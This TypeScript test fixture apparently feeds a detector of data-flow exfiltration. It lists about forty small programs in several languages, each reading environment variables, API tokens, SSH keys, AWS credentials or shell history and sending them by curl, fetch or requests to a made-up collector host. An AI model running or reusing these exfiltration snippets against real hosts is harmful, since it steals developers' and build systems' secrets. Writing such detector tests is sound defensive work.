/*
 * Attacks that send private data away, each by another path through the code. Every host is made up.
 */

import type { FlowCase } from './case.fixture.js';

const host = 'https://stats.collector.example/in';

export const attacks: readonly FlowCase[] = [
  {
    name: 'js entries forEach destructured',
    files: {
      'a.js': `const lines = [];\nObject.entries(process.env).forEach(([k, v]) => lines.push(k + '=' + v));\nfetch('${host}', { method: 'POST', body: lines.join('\\n') });\n`,
    },
  },
  {
    name: 'js entries map in the request',
    files: {
      'a.js': `import axios from 'axios';\naxios.post('${host}', Object.entries(process.env).map(([k, v]) => ({ k, v })));\n`,
    },
  },
  {
    name: 'js reduce into an object',
    files: {
      'a.mjs': `const all = Object.keys(process.env).reduce((acc, k) => { acc[k] = process.env[k]; return acc; }, {});\nawait fetch('${host}', { method: 'POST', body: JSON.stringify(all) });\n`,
    },
  },
  {
    name: 'js for of destructured',
    files: {
      'a.js': `const out = {};\nfor (const [name, value] of Object.entries(process.env)) {\n  if (/KEY|TOKEN/.test(name)) out[name] = value;\n}\nfetch('${host}', { method: 'POST', body: JSON.stringify(out) });\n`,
    },
  },
  {
    name: 'js for in',
    files: {
      'a.js': `let body = '';\nfor (const k in process.env) body += k + process.env[k];\nnavigator.sendBeacon('${host}', body);\n`,
    },
  },
  {
    name: 'js spread of the environment',
    files: {
      'a.js': `const snapshot = { ...process.env, at: Date.now() };\nfetch('${host}', { method: 'POST', body: JSON.stringify(snapshot) });\n`,
    },
  },
  {
    name: 'js Object.fromEntries filter',
    files: {
      'a.ts': `const secrets: Record<string, string> = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.includes('TOKEN')));\nconst send = (data: unknown) => fetch('${host}', { method: 'POST', body: JSON.stringify(data) });\nsend(secrets);\n`,
    },
  },
  {
    name: 'js env under another name',
    files: {
      'a.js': `const { env: settings } = process;\nconst report = JSON.stringify(settings);\nrequire('https').request('${host}', { method: 'POST' }).end(report);\n`,
    },
  },
  {
    name: 'js class field and method',
    files: {
      'a.ts': `class Reporter {\n  private data: string[] = [];\n  collect() { this.data.push(process.env.GITHUB_TOKEN ?? ''); }\n  async flush() { await fetch('${host}', { method: 'POST', body: this.data.join() }); }\n}\nconst r = new Reporter();\nr.collect();\nr.flush();\n`,
    },
  },
  {
    name: 'js promise chain over a private file',
    files: {
      'a.mjs': `import { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nreadFile(homedir() + '/.ssh/id_ed25519', 'utf8').then((text) => fetch('${host}', { method: 'POST', body: text }));\n`,
    },
  },
  {
    name: 'js modules, default export',
    files: {
      'lib/gather.js': `export default function gather() {\n  return { ...process.env };\n}\n`,
      'main.js': `import gather from './lib/gather.js';\nconst x = gather();\nfetch('${host}', { method: 'POST', body: JSON.stringify(x) });\n`,
    },
  },
  {
    name: 'js modules, commonjs object of functions',
    files: {
      'net.js': `module.exports = { push: (payload) => fetch('${host}', { method: 'POST', body: payload }) };\n`,
      'index.js': `const net = require('./net');\nconst secret = process.env.OPENAI_API_KEY;\nnet.push(secret);\n`,
    },
  },
  {
    name: 'js template url',
    files: {
      'a.js':
        // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack contains it
        'const k = process.env.ANTHROPIC_API_KEY;\nnew Image().src = `https://px.collector.example/p.gif?d=${encodeURIComponent(k)}`;\n',
    },
  },
  {
    name: 'py dict of environ',
    files: {
      'a.py': `import os, requests\ndata = dict(os.environ)\nrequests.post("${host}", json=data)\n`,
    },
  },
  {
    name: 'py comprehension',
    files: {
      'a.py': `import os, requests\nfound = {k: v for k, v in os.environ.items() if "KEY" in k}\nrequests.post("${host}", json=found)\n`,
    },
  },
  {
    name: 'py double star',
    files: {
      'a.py': `import os, json, urllib.request\npayload = json.dumps({**os.environ, "v": 1}).encode()\nurllib.request.urlopen(urllib.request.Request("${host}", data=payload))\n`,
    },
  },
  {
    name: 'py list comprehension of lines',
    files: {
      'a.py': `from os import environ\nimport httpx\nrows = [f"{name}={environ[name]}" for name in environ]\nhttpx.post("${host}", content="\\n".join(rows))\n`,
    },
  },
  {
    name: 'py map and lambda',
    files: {
      'a.py': `import os, requests\nrows = list(map(lambda p: p[0] + "=" + p[1], os.environ.items()))\nrequests.post("${host}", data=str(rows))\n`,
    },
  },
  {
    name: 'py for over private files',
    files: {
      'a.py': `import os, requests\nfrom pathlib import Path\nbundle = {}\nfor name in ["id_rsa", "id_ed25519", "config"]:\n    p = Path.home() / ".ssh" / name\n    if p.exists():\n        bundle[name] = p.read_text()\nrequests.post("${host}", json=bundle)\n`,
    },
  },
  {
    name: 'py generator and class',
    files: {
      'a.py': `import os, requests\nclass Agent:\n    def __init__(self, url):\n        self.url = url\n        self.rows = []\n    def walk(self):\n        for k in os.environ:\n            yield k, os.environ[k]\n    def run(self):\n        for pair in self.walk():\n            self.rows.append(pair)\n        requests.post(self.url, json=self.rows)\nAgent("${host}").run()\n`,
    },
  },
  {
    name: 'py module attribute across files',
    files: {
      'store.py': `import os\ncache = {}\ndef fill():\n    cache.update(os.environ)\n`,
      'ship.py': `import store\nimport requests\nstore.fill()\nrequests.put("${host}", json=store.cache)\n`,
    },
  },
  {
    name: 'py archive of a private folder',
    files: {
      'a.py': `import shutil, os, requests\nname = shutil.make_archive("/tmp/b", "zip", os.path.expanduser("~/.aws"))\nrequests.post("${host}", files={"f": open(name, "rb")})\n`,
    },
  },
  {
    name: 'py keyword splat',
    files: {
      'a.py': `import os, requests\ndef ship(**values):\n    requests.post("${host}", json=values)\nship(**os.environ)\n`,
    },
  },
  {
    name: 'rb each over ENV',
    files: {
      'a.rb': `require 'net/http'\nrows = []\nENV.each do |name, value|\n  rows << "#{name}=#{value}"\nend\nNet::HTTP.post(URI('${host}'), rows.join("\\n"))\n`,
    },
  },
  {
    name: 'rb map in braces',
    files: {
      'a.rb': `require 'net/http'\nbody = ENV.map { |k, v| "#{k}=#{v}" }.join("&")\nNet::HTTP.post(URI('${host}'), body)\n`,
    },
  },
  {
    name: 'php foreach over getenv',
    files: {
      'a.php': `<?php\n$rows = [];\nforeach (getenv() as $name => $value) {\n  $rows[] = $name . '=' . $value;\n}\n$c = curl_init('${host}');\ncurl_setopt($c, CURLOPT_POSTFIELDS, implode("\\n", $rows));\ncurl_exec($c);\n`,
    },
  },
  {
    name: 'pl foreach over ENV',
    files: {
      'a.pl': `use LWP::UserAgent;\nmy $text = '';\nforeach my $k (keys %ENV) {\n  $text .= "$k=$ENV{$k}\\n";\n}\nmy $ua = LWP::UserAgent->new;\n$ua->post('${host}', Content => $text);\n`,
    },
  },
  {
    name: 'go range over Environ',
    files: {
      'a.go': `package main\nfunc main() {\n\tvar b strings.Builder\n\tfor _, e := range os.Environ() {\n\t\tb.WriteString(e)\n\t}\n\thttp.Post("${host}", "text/plain", strings.NewReader(b.String()))\n}\n`,
    },
  },
  {
    name: 'sh function with a secret',
    files: {
      'a.sh': `#!/bin/bash\nreport() {\n  curl -s -d "v=$1" ${host}\n}\nreport "$GITHUB_TOKEN"\n`,
    },
  },
  {
    name: 'sh function word and all arguments',
    files: {
      'a.sh': `function ship {\n  local body="$*"\n  curl --data "$body" ${host}\n}\nship "$(cat ~/.aws/credentials)"\n`,
    },
  },
  {
    name: 'sh function that reads its input',
    files: {
      'a.sh': `push() { curl -s --data-binary @- ${host}; }\ncat ~/.ssh/id_rsa | push\n`,
    },
  },
  {
    name: 'sh function result',
    files: {
      'a.sh': `gather() { cat ~/.netrc; }\nx=$(gather)\ncurl -d "$x" ${host}\n`,
    },
  },
  {
    name: 'sh here-document with a substitution',
    files: {
      'a.sh': `curl -s -X POST -d @- ${host} <<EOF\n{"k": "$(cat ~/.ssh/id_rsa)"}\nEOF\n`,
    },
  },
  {
    name: 'sh here-document with a variable',
    files: {
      'a.sh': `curl -s -X POST --data-binary @- ${host} <<EOF\ntoken=\${NPM_TOKEN}\nEOF\n`,
    },
  },
  {
    name: 'sh xargs with a placeholder',
    files: {
      'a.sh': `cat ~/.aws/credentials | base64 | xargs -I{} curl -s "${host}?d={}"\n`,
    },
  },
  {
    name: 'sh substitution in an argument',
    files: {
      'a.sh': `wget -q -O /dev/null "${host}?d=$(env | base64 | tr -d '\\n')"\n`,
    },
  },
  {
    name: 'sh read loop over env',
    files: {
      'a.sh': `env | while IFS='=' read -r name value; do\n  curl -s -d "$name=$value" ${host}\ndone\n`,
    },
  },
  {
    name: 'sh read loop from a substitution',
    files: {
      'a.sh': `while read -r line; do\n  curl -s "${host}?l=$line"\ndone < <(cat ~/.bash_history)\n`,
    },
  },
  {
    name: 'sh loop over names and indirection',
    files: {
      'a.sh': `for n in AWS_SECRET_ACCESS_KEY GITHUB_TOKEN; do\n  curl -s -d "$n=\${!n}" ${host}\ndone\n`,
    },
  },
  {
    name: 'sh sourced file with the function',
    files: {
      'lib.sh': `emit() {\n  local data=$1\n  curl -s -d "$data" ${host}\n}\n`,
      'main.sh': `. ./lib.sh\nemit "$(cat ~/.ssh/id_ed25519)"\n`,
    },
  },
  {
    name: 'sh array',
    files: {
      'a.sh': `parts=("$(cat ~/.netrc)" "$(hostname)")\ncurl -d "\${parts[*]}" ${host}\n`,
    },
  },
  {
    name: 'sh file between two commands',
    files: {
      'a.sh': `tar czf /tmp/.cache.tgz ~/.ssh ~/.aws\ncurl -s -F "file=@/tmp/.cache.tgz" ${host}\n`,
    },
  },
  {
    name: 'ps1 function',
    files: {
      'a.ps1': `function Send-Report($Data) {\n  Invoke-RestMethod -Uri ${host} -Method Post -Body $Data\n}\n$all = Get-ChildItem env: | ConvertTo-Json\nSend-Report $all\n`,
    },
  },
];
